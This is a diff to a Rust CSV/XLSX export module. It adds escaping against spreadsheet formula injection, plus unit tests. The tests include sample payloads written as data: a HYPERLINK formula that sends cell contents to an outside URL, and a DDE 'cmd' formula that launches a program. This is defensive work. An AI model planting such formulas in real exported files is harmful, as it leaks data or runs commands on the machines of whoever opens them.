@@ -6,7 +6,15 @@
 //! - XLSX uses `rust_xlsxwriter`'s constant-memory mode: each row goes to a
 //!   temporary file as it is written, and the workbook is assembled at the end.
 //!
+//! - Text that a spreadsheet would read as a formula (`=HYPERLINK(...)`,
+//!   `=1+cmd|...`) gets a leading `'` in CSV, as OWASP's CSV-injection advice says:
+//!   a consultation title or system name typed by anyone reaches the manager who
+//!   opens the file. Numbers are `Cell::Number` and stay numbers. XLSX needs no
+//!   such care: its text cells are strings, never evaluated.
+//!
 //! Nothing here knows what the rows are; `web::export` pages through a query.
+
+use std::borrow::Cow;
 
 use std::io::Write;
 
@@ -53,10 +61,27 @@ fn csv_lines(rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u8>, csv::Er
         .map_err(|e| csv::Error::from(e.into_error()))
 }
 
+/// Characters that make Excel, LibreOffice or Google Sheets treat a cell as a
+/// formula (or, tab and carriage return, hide one behind them); Excel in a
+/// Japanese locale reads the full-width forms as the ASCII ones.
+const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/// Text as a CSV cell that no spreadsheet evaluates: prefixed with `'` when it
+/// begins like a formula.
+pub fn csv_text(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
 /// The start of a CSV file: the byte-order mark and the header row.
 pub fn csv_header(headers: &[String]) -> Result<Vec<u8>, csv::Error> {
     let mut out = BOM.to_vec();
-    out.extend(csv_lines(std::iter::once(headers.to_vec()))?);
+    out.extend(csv_lines(std::iter::once(
+        headers.iter().map(|h| csv_text(h).into_owned()).collect(),
+    ))?);
     Ok(out)
 }
 
@@ -65,7 +90,7 @@ pub fn csv_rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
     csv_lines(rows.iter().map(|row| {
         row.iter()
             .map(|cell| match cell {
-                Cell::Text(s) => s.clone(),
+                Cell::Text(s) => csv_text(s).into_owned(),
                 Cell::Number(n) => n.to_string(),
                 Cell::Empty => String::new(),
             })
@@ -138,5 +163,54 @@ mod tests {
         assert!(bytes.starts_with(BOM));
         let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
         assert_eq!(text, "番号,件名\nDX-2025-0001,\"a,\"\"b\"\"\"\n");
+    }
+
+    fn csv_text_of(rows: &[Row]) -> String {
+        String::from_utf8(csv_rows(rows).expect("rows")).expect("utf-8")
+    }
+
+    #[test]
+    fn text_that_starts_like_a_formula_gets_a_leading_quote() {
+        for (given, written) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A2,\"詳細\")",
+                "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"詳細\"\")\"",
+            ),
+            ("=1+cmd|' /C calc'!A0", "'=1+cmd|' /C calc'!A0"),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("＝１＋１", "'＝１＋１"),
+            ("＋１", "'＋１"),
+            ("－１", "'－１"),
+            ("＠ＳＵＭ", "'＠ＳＵＭ"),
+        ] {
+            assert_eq!(
+                csv_text_of(&[vec![Cell::Text(given.into())]]),
+                format!("{written}\n"),
+                "{given:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn ordinary_text_numbers_and_headers() {
+        assert_eq!(
+            csv_text_of(&[vec![
+                Cell::Text("DX-2025-0001".into()),
+                Cell::Text("a=b".into()),
+                Cell::Text(" =1".into()),
+                Cell::Text(String::new()),
+                Cell::Number(-5.0),
+                Cell::Number(-0.5),
+                Cell::Empty,
+            ]]),
+            "DX-2025-0001,a=b, =1,,-5,-0.5,\n",
+            "negative numbers are numbers, not formulas"
+        );
+        let header = csv_header(&["=件名".into(), "番号".into()]).expect("header");
+        assert_eq!(&header[BOM.len()..], "'=件名,番号\n".as_bytes());
     }
 }
